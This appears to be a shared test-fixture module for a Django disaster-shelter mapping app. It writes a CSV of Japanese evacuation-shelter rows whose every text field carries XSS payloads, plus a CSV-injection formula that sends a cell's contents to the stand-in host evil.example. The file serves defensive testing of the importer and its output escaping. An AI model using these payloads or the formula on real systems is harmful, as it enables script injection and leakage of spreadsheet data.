"""Hostile text in every field of an imported file: shared by the server tests and the browser test."""

import csv

from django.contrib.gis.db.models.functions import Distance
from django.contrib.gis.geos import Point

from importers.pipeline import run_import
from layers.answers.hazard_report import nearest_suitable_shelters
from layers.models import Feature, Layer, Municipality
from tests.factories import SUITA

PAYLOADS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "\"'><svg onload=alert(1)>",
)
# OWASP's CSV injection: a spreadsheet runs a cell that starts with = + - @ as a formula.
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"詳細")'
# Beside 吹田市役所, each a few metres apart, so /here lists them as the nearest shelters.
POINT = (135.5168, 34.7615)
SOURCE_IDS = [f"E{SUITA}99{n:03d}201" for n in range(len(PAYLOADS))]
FORMULA_ID = f"E{SUITA}99999201"

DISASTER_COLUMNS = ["洪水", "崖崩れ、土石流及び地滑り", "高潮", "地震", "津波", "大規模な火事", "内水氾濫", "火山現象"]
HEADER = ["共通ID", "施設・場所名", "名称_カナ", "住所", "受入対象者", "電話番号", "URL", "備考", "経度", "緯度",
          *DISASTER_COLUMNS]  # fmt: skip


def rows(code=SUITA, points=None):
    """One row per payload, in every text column; then one whose cells are spreadsheet formulas."""
    points = points or [(POINT[0] + n * 0.00005, POINT[1]) for n in range(len(PAYLOADS))]
    for n, (payload, (lon, lat)) in enumerate(zip(PAYLOADS, points, strict=True)):
        yield [f"E{code}99{n:03d}201", f"避難所{n}{payload}", payload, f"吹田市{payload}", payload, payload, payload,
               payload, lon, lat, *["1"] * 8]  # fmt: skip
    yield [f"E{code}99999201", FORMULA, "", FORMULA, FORMULA, "+81-6-0000-0000", "", FORMULA, POINT[0] - 0.0001,
           POINT[1], *["1"] * 8]  # fmt: skip


def write_file(folder, code=SUITA, points=None):
    path = folder / f"{code}_hostile.csv"
    with open(path, "w", encoding="utf-8", newline="") as out:
        csv.writer(out).writerows([HEADER, *rows(code, points)])  # quotes in values doubled, as the standard asks
    return path


def import_hostile_shelters(tmp_path, code=SUITA, points=None):
    """The rows above imported into the shelters layer of `code` through the real importer (upsert)."""
    path = write_file(tmp_path, code, points)
    layer = Layer.objects.get(slug="shelters")
    result = run_import(path, layer=layer, municipality=Municipality.objects.get(code=code), mode="upsert")
    assert not result.errors, result.errors
    ids = [f"E{code}99{n:03d}201" for n in range(len(PAYLOADS))]
    features = list(Feature.objects.filter(layer=layer, source_id__in=ids).order_by("source_id"))
    assert len(features) == len(PAYLOADS)
    for feature, payload in zip(features, PAYLOADS, strict=True):
        assert payload in feature.name and feature.address.endswith(payload), "stored as written"
    return features


def flood_zone_and_spots():
    """A point inside the flood zone nearest 吹田市役所, the municipality of its nearest suitable shelter,
    and one spot per payload a few metres nearer the point than that shelter: the report lists them first."""
    here = Point(*POINT, srid=4326)
    zones = Feature.objects.filter(layer__kind="hazard_zone", properties__hazard_type="flood")
    inside = zones.annotate(d=Distance("geom", here)).order_by("d").first().geom.point_on_surface
    (nearest,) = nearest_suitable_shelters(inside, "flood", limit=1)
    (lon, lat), metres = nearest["geometry"]["coordinates"], nearest["properties"]["distance_m"]
    towards = [(k * 2 / metres) for k in range(1, len(PAYLOADS) + 1)]
    spots = [(lon + (inside.x - lon) * f, lat + (inside.y - lat) * f) for f in towards]
    return inside, nearest["properties"]["municipality"], spots


def csv_rows(text):
    return list(csv.reader(text.lstrip("\ufeff").splitlines()))
